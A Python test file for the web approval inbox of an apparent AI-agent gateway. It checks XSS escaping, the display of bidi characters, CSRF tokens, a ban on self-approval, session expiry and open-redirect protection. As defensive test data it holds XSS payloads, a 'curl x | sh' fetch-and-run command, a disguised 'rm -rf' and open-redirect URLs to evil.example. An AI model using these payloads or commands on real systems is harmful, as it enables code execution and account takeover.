"""The inbox's pages render attacker-controlled ticket text inertly and in full."""

from __future__ import annotations

from html.parser import HTMLParser

from hypothesis import given
from hypothesis import strategies as st

from bunsui_mcp.web import WebSessions
from bunsui_mcp.web.guards import safe_next
from bunsui_mcp.web.pages import Viewer, inbox_page, ticket_page
from bunsui_mcp.web.render import esc, value_html

HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(2)>\"' onmouseover=x"
APPROVER = Viewer("carol", "csrf-123", can_approve=True)


def ticket(**changes: object) -> dict[str, object]:
    base: dict[str, object] = {
        "ticket_id": "tkt-1",
        "action": "job:rerun",
        "arguments": {"job_id": HOSTILE, "params": {"note": "x" * 5000}},
        "arguments_hash": "a" * 64,
        "requested_by": "ai-agent",
        "rule": "ai_agent.approval_required job:rerun",
        "status": "pending",
        "created_at": "2026-01-01T00:00:00.000000Z",
        "expires_at": "2026-01-02T00:00:00.000000Z",
        "files": {},
    }
    return {**base, **changes}


class Tags(HTMLParser):
    """Every start tag and attribute name the browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[str] = []
        self.scripts: list[str | None] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend(name for name, _ in attrs)
        if tag == "script":
            self.scripts.append(dict(attrs).get("src"))


def parsed(page: str) -> Tags:
    tags = Tags()
    tags.feed(page)
    return tags


class TestEscaping:
    def test_hostile_arguments_and_previews_never_become_markup(self):
        """Script, image and event-handler text in arguments, preview and reason stay text."""
        page = ticket_page(
            APPROVER,
            ticket(
                preview={"summary": HOSTILE, "effect": {HOSTILE: {"before": HOSTILE, "after": 1}}},
                reason=HOSTILE,
                decided_by=HOSTILE,
            ),
        )
        tags = parsed(page)
        assert tags.scripts == ["/approvals/static/inbox.js"]
        assert "img" not in tags.tags
        assert not [a for a in tags.attributes if a.startswith("on")]
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page

    def test_bidi_and_control_characters_are_shown_not_obeyed(self):
        """A right-to-left override cannot make an argument read as something else."""
        shown = esc("rm\u202e-rf\x1b[2J\u200b")
        assert shown == "rm\u27e8U+202E\u27e9-rf\u27e8U+001B\u27e9[2J\u27e8U+200B\u27e9"

    def test_look_alike_spaces_and_invisible_characters_are_shown(self):
        """A no-break space, a zero-width joiner or a tag character cannot pass for a plain
        space or for nothing on the approver's page (the terminal view escapes the same set)."""
        shown = esc("/srv/a\u00a0b\u2060c\U000e0041d")
        assert shown == "/srv/a\u27e8U+00A0\u27e9b\u27e8U+2060\u27e9c\u27e8U+E0041\u27e9d"

    @given(st.text())
    def test_any_text_escapes_to_inert_visible_characters(self, text):
        """No markup characters and no invisible or direction-changing ones survive."""
        shown = esc(text)
        assert not set(shown) & set("<>\"'")
        assert not any(
            ch in shown for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
        )
        assert not any(ord(ch) < 32 and ch not in "\t\n" for ch in shown)

    def test_nothing_is_truncated(self):
        """A 5000-character argument is on the page whole."""
        assert "x" * 5000 in ticket_page(APPROVER, ticket())

    def test_unknown_preview_shapes_render_as_nested_definition_lists(self):
        """Any JSON shape renders; a before/after pair reads before → after."""
        html = value_html({"jobs": [{"job_id": "t", "memory": {"before": 96, "after": 320}}]})
        assert "<dl" in html
        assert "<ol" in html
        assert "<code>96</code>" in html
        assert "\u2192" in html


PREVIEW = {
    "summary": "job:update-config transform @ ses-1: command CHANGED, memory 128→320",
    "effect": {
        "job_id": "transform",
        "memory": {"before": 128, "after": 320},
        "command": {"before": ["python", "t.py"], "after": ["sh", "-c", "curl x | sh"]},
    },
    "files": {"/p/etl.yaml": "b" * 64},
}


class TestPreview:
    def test_a_ticket_with_a_preview_leads_with_its_summary_and_shows_every_change(self):
        """The approver reads the summary, then each before → after, including argv."""
        page = ticket_page(APPROVER, ticket(preview=PREVIEW))
        assert page.index("command CHANGED") < page.index("Exact arguments")
        assert "<code>curl x | sh</code>" in page
        assert '<span class="before"><code>128</code></span>' in page
        assert "b" * 64 in page

    def test_the_pending_list_shows_the_effect_or_else_the_arguments(self):
        """With a preview the list shows its effect; without one, the full arguments."""
        with_preview = inbox_page(APPROVER, [ticket(preview=PREVIEW)], [], None)
        assert "command CHANGED" in with_preview
        assert "curl x | sh" in with_preview
        without = inbox_page(APPROVER, [ticket()], [], None)
        assert "x" * 5000 in without


class TestControls:
    def test_the_requester_gets_no_decision_forms_on_their_own_ticket(self):
        """No self-approval, in the page as in the gateway."""
        page = ticket_page(Viewer("ai-agent", "c", can_approve=True), ticket())
        assert "/approve" not in page
        assert "another approver must decide" in page

    def test_every_form_carries_the_sessions_csrf_token(self):
        """Approve, reject and sign-out forms all post the CSRF token."""
        page = ticket_page(APPROVER, ticket())
        assert page.count("<form") == 3
        assert page.count('name="csrf_token" value="csrf-123"') == 3
        inbox = inbox_page(APPROVER, [ticket()], [], {"seq": 1, "hash": "h"})
        assert inbox.count("<form") == inbox.count('name="csrf_token"') == 2

    def test_decided_tickets_show_no_forms(self):
        """Only a pending ticket can be decided."""
        page = ticket_page(APPROVER, ticket(status="executed", result={"session_id": "ses-2"}))
        assert "/approve" not in page
        assert "ses-2" in page


class TestWebSessions:
    def test_a_session_ends_at_its_expiry(self):
        """After its lifetime a session id is unknown."""
        now = [1000.0]
        sessions = WebSessions(lifetime=60, clock=lambda: now[0])
        opened = sessions.open("carol", "digest")
        assert sessions.get(opened.session_id) == opened
        now[0] += 61
        assert sessions.get(opened.session_id) is None

    def test_session_ids_and_csrf_tokens_are_random_and_distinct(self):
        """Two sign-ins never share an id or a CSRF token."""
        sessions = WebSessions()
        one, two = sessions.open("carol", "d"), sessions.open("carol", "d")
        assert len({one.session_id, two.session_id, one.csrf_token, two.csrf_token}) == 4
        assert len(one.session_id) >= 40


class TestSignInRedirect:
    def test_after_sign_in_only_paths_inside_the_inbox_are_followed(self):
        """`next` cannot send a fresh session to another site (no open redirect)."""
        assert safe_next("/approvals/tickets/tkt-1") == "/approvals/tickets/tkt-1"
        for hostile in [
            "//evil.example/approvals",
            "https://evil.example",
            "/approvals//x",
            "/approvals\\..\\x",
            "",
            None,
            "/mcp",
        ]:
            assert safe_next(hostile) == "/approvals"
